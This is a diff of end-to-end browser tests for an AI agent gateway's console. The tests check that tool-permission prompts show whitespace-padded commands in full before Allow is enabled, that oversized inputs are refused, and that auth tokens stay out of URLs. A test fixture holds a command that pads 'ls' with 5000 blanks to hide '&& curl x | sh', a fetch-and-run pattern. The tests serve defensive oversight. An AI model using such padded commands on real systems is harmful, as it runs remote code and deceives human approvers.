@@ -141,7 +141,7 @@ describe("without tokens", () => {
     await turn(page, 1).getByText("chunk 1 chunk 2 chunk 3").waitFor(WAIT);
     await turnStatus(page, 1, "completed").waitFor(WAIT);
     await turn(page, 1).getByText("simulated_command").click();
-    await turn(page, 1).getByRole("link", { name: "Full payload" }).waitFor(WAIT);
+    await turn(page, 1).getByRole("button", { name: "Full payload" }).waitFor(WAIT);
 
     await send(page, "[deltas 1] [hang]");
     await turn(page, 2).getByText("chunk 1").waitFor(WAIT);
@@ -173,6 +173,51 @@ describe("without tokens", () => {
     await page.getByRole("link", { name: "Instances" }).click();
     await page.getByRole("region", { name: "Instances" }).getByText("this one").waitFor(WAIT);
     await page.screenshot({ path: `${ARTIFACTS}/console-instances.png` });
+    expect((page as any).consoleErrors).toEqual([]);
+    await page.close();
+  });
+
+  it("shows a padded command whole, its tail included, before Allow can be clicked; an oversized one is denied", { timeout: 300_000 }, async () => {
+    const gw = await startGateway();
+    const page = await newPage();
+    await page.goto(`${gw.url}/`);
+    await createSession(page);
+    // Every moment Allow is enabled, the input the request shows then (a MutationObserver runs
+    // before the page can paint or take a click).
+    await page.evaluate(`(() => {
+      window.__allowEnabledWith = [];
+      new MutationObserver(() => {
+        for (const section of document.querySelectorAll("section.permission")) {
+          const allow = [...section.querySelectorAll("button")].find((b) => b.textContent === "Allow");
+          if (allow && !allow.disabled) window.__allowEnabledWith.push(section.querySelector("pre")?.textContent ?? "");
+        }
+      }).observe(document.body, { subtree: true, childList: true, attributes: true, characterData: true });
+    })()`);
+    await send(page, "[askpadded 5000]");
+    const allow = turn(page, 1).getByRole("button", { name: "Allow", exact: true });
+    await allow.waitFor(WAIT);
+    await page.waitForFunction("window.__allowEnabledWith.length > 0", undefined, WAIT);
+    const seen = (await page.evaluate("window.__allowEnabledWith")) as string[];
+    const whole = '"command": "ls⟨5000 blanks⟩&& curl x | sh"';
+    for (const text of seen) expect(text).toContain(whole);
+    expect(await turn(page, 1).getByLabel("Tool input", { exact: true }).textContent()).toContain(whole);
+    // The stream's preview was cut, and the page says so.
+    const bytes = Buffer.byteLength(JSON.stringify({ command: `ls${" ".repeat(5000)}&& curl x | sh` }));
+    await turn(page, 1)
+      .getByRole("note")
+      .getByText(`The stream sent a preview of this input; it is shown whole (${bytes} bytes).`)
+      .waitFor(WAIT);
+    await page.screenshot({ path: `${ARTIFACTS}/console-approval-padded.png` });
+    await allow.click();
+    await turn(page, 1).getByText("allowed bash").waitFor(WAIT);
+    await turnStatus(page, 1, "completed").waitFor(WAIT);
+
+    // Above MOORING_PERMISSION_INPUT_MAX_BYTES: the gateway's refusal and its reason, no Allow.
+    await send(page, "[askpadded 300000]");
+    await turnStatus(page, 2, "completed").waitFor(WAIT);
+    await turn(page, 2).getByText("(by gateway): The tool's input is").waitFor(WAIT);
+    expect(await turn(page, 2).getByRole("button", { name: "Allow", exact: true }).count()).toBe(0);
+    expect(((await page.evaluate("window.__allowEnabledWith")) as string[]).every((t) => t.includes(whole))).toBe(true);
     expect((page as any).consoleErrors).toEqual([]);
     await page.close();
   });
@@ -236,6 +281,45 @@ describe("with tokens", () => {
     await page.reload();
     await page.getByRole("region", { name: "Session", exact: true }).waitFor(WAIT);
     expect(await page.getByLabel("Token").count()).toBe(0);
+    await page.close();
+  });
+});
+
+describe("with tokens, payloads", () => {
+  it("fetches payloads with the Authorization header and shows them in the page: no URL carries the token", { timeout: 300_000 }, async () => {
+    const gw = await startGateway({ MOORING_API_TOKENS: "console-secret" });
+    const page = await newPage();
+    const requests: { url: string; authorization: string | undefined }[] = [];
+    page.on("request", (r) => requests.push({ url: r.url(), authorization: r.headers().authorization }));
+    await page.goto(`${gw.url}/`);
+    await page.getByLabel("Token").fill("console-secret");
+    await page.getByRole("button", { name: "Sign in" }).click();
+    await page.getByRole("region", { name: "Gate" }).getByText("Active").waitFor(WAIT);
+    await createSession(page);
+
+    await send(page, "[tool 3000]");
+    await turnStatus(page, 1, "completed").waitFor(WAIT);
+    await turn(page, 1).getByText("simulated_command").click();
+    await turn(page, 1).getByRole("button", { name: "Full payload" }).click();
+    const shown = turn(page, 1).getByLabel("Full payload", { exact: true });
+    await shown.waitFor(WAIT);
+    expect(await shown.textContent()).toBe("x".repeat(3000));
+
+    // A padded approval: its whole input is fetched the same way.
+    await send(page, "[askpadded 5000]");
+    const allow = turn(page, 2).getByRole("button", { name: "Allow", exact: true });
+    await turn(page, 2).getByLabel("Tool input", { exact: true }).getByText("&& curl x | sh").waitFor(WAIT);
+    await allow.click();
+    await turnStatus(page, 2, "completed").waitFor(WAIT);
+
+    const payloads = requests.filter((r) => r.url.includes("/payload"));
+    expect(payloads.length).toBe(2);
+    for (const r of payloads) expect(r.authorization).toBe("Bearer console-secret");
+    expect(requests.length).toBeGreaterThan(payloads.length);
+    expect(requests.filter((r) => r.url.includes("access_token")).map((r) => r.url)).toEqual([]);
+    expect(requests.filter((r) => r.url.includes("console-secret")).map((r) => r.url)).toEqual([]);
+    // The page never opened another tab (a payload used to open in one, token in its URL).
+    expect(page.context().pages()).toEqual([page]);
     await page.close();
   });
 });
